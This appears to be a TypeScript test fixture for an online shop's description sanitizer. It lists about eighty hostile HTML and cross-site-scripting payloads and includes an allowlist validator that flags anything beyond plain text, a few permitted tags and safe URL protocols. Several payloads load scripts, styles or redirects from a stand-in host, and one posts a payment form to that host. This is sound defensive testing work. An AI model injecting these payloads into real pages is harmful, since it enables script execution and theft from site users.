/** What runs where a page shows it as it is: set `pwned`, or load from elsewhere. */
export const hostileHtml: readonly string[] = [
  '<script>pwned=1</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>pwned=1</scr</script>ipt>',
  '<script\n>pwned=1</script\n>',
  '<script/x>pwned=1</script>',
  '<<script>pwned=1//<</script>',
  '<img src=x onerror=pwned=1>',
  '<img src=x:x onerror\n=\npwned=1>',
  '<IMG """><SCRIPT>pwned=1</SCRIPT>">',
  '<img src=//evil.example/a.png>',
  '<img srcset="//evil.example/a.png 1x">',
  '<svg onload=pwned=1>',
  '<svg/onload=pwned=1//',
  '<svg><script>pwned=1</script></svg>',
  '<svg><a xlink:href="javascript:pwned=1"><text x=20 y=20>a</text></a></svg>',
  '<svg><animate onbegin=pwned=1 attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=pwned=1>#x">',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwned=1></style></mglyph></table></mtext></math>',
  '<math href="javascript:pwned=1">a</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned=1>',
  '<noscript><p title="</noscript><img src=x onerror=pwned=1>">',
  '<p title="<!--"></p><img src=x onerror=pwned=1>-->',
  '<textarea><p title="</textarea><img src=x onerror=pwned=1>">',
  '<title><p title="</title><img src=x onerror=pwned=1>">',
  '<style><p title="</style><img src=x onerror=pwned=1>">',
  '<xmp><p title="</xmp><img src=x onerror=pwned=1>">',
  '<iframe src="javascript:pwned=1"></iframe>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<object data="javascript:pwned=1"></object>',
  '<embed src="javascript:pwned=1">',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<link rel=stylesheet href=//evil.example/a.css>',
  '<style>@import "//evil.example/a.css";</style>',
  '<p style="background:url(//evil.example/a.png)">a</p>',
  '<p style="width:expression(pwned=1)">a</p>',
  '<body onload=pwned=1>',
  '<details open ontoggle=pwned=1>a</details>',
  '<video><source onerror=pwned=1></video>',
  '<audio src=x onerror=pwned=1>',
  '<input autofocus onfocus=pwned=1>',
  '<select autofocus onfocus=pwned=1>',
  '<marquee onstart=pwned=1>a</marquee>',
  '<p onclick="pwned=1" onmouseover=pwned=1>a</p>',
  '<a href="javascript:pwned=1">a</a>',
  '<a href="JaVaScRiPt:pwned=1">a</a>',
  '<a href="java\tscript:pwned=1">a</a>',
  '<a href="java\nscript:pwned=1">a</a>',
  '<a href="&#106;avascript:pwned=1">a</a>',
  '<a href="&#x6A&#x61&#x76&#x61script&colon;pwned=1">a</a>',
  '<a href="\u0001javascript:pwned=1">a</a>',
  '<a href="javascript&Tab;:pwned=1">a</a>',
  '<a href="javascript://%0apwned=1">a</a>',
  '<a href="data:text/html,<script>pwned=1</script>">a</a>',
  '<a href="vbscript:pwned=1">a</a>',
  '<a href="blob:pwned">a</a>',
  '<a href="//evil.example" target=_blank rel=opener>a</a>',
  '<a href="x" onclick=pwned=1 title="a" onfocus=pwned=1 autofocus>a</a>',
  '<a title="&quot; onmouseover=&quot;pwned=1">a</a>',
  '<a title=\'" onmouseover="pwned=1\'>a</a>',
  '<a href="https://a.example/&quot;onmouseover=pwned=1//">a</a>',
  '<td colspan="1&quot; onmouseover=&quot;pwned=1">a</td>',
  '</div></main></body><script>pwned=1</script>',
  '--><script>pwned=1</script><!--',
  ']]><script>pwned=1</script>',
  '<![CDATA[<script>pwned=1</script>]]>',
  '<?xml version="1.0"?><script>pwned=1</script>',
  '<!DOCTYPE x [<!ENTITY a "<script>pwned=1</script>">]>&a;',
  '&lt;script&gt;pwned=1&lt;/script&gt;',
  '&amp;lt;script&amp;gt;pwned=1',
  '\u003cscript\u003epwned=1\u003c/script\u003e',
  '＜script＞pwned=1＜/script＞',
  '+ADw-script+AD4-pwned=1+ADw-/script+AD4-',
  '<p is="x-a" slot=a id=checkout name=checkout class="button">a</p>',
  '<form action=//evil.example><button>Pay</button></form>',
  '<a href="#" id=cookie><a id=cookie name=x href="clobber:a">a</a></a>',
  '<template><img src=x onerror=pwned=1></template>',
  '<portal src="//evil.example"></portal><dialog open>a</dialog>',
  '{{constructor.constructor("pwned=1")()}}',
  '</script><script>pwned=1</script>',
];

const TAGS =
  'p|br|hr|h[2-6]|blockquote|pre|code|[uod]l|li|d[td]|strong|em|[bius]|su[bp]|small|a|table|caption|t(?:head|body|foot|[rhd])';
const TAG = `<\\/?(?:${TAGS})(?: (?:href|title|rel|scope|colspan|rowspan)="[^"<>]*")*(?: \\/)?>`;
const CLEAN = new RegExp(`^(?:[^<>]|${TAG})*$`);

/** What in a description is not text, an allowed tag or an allowed attribute; null where all is. */
export function activeIn(html: string): string | null {
  if (!CLEAN.test(html)) return html;
  for (const [, href = ''] of html.matchAll(/ href="([^"]*)"/g)) {
    if (/&(?!(?:amp|quot|lt|gt);)/.test(href)) return href;
    const { protocol } = new URL(href.replaceAll('&amp;', '&'), 'https://shop.example/');
    if (!['http:', 'https:', 'mailto:', 'tel:'].includes(protocol)) return href;
  }
  return null;
}
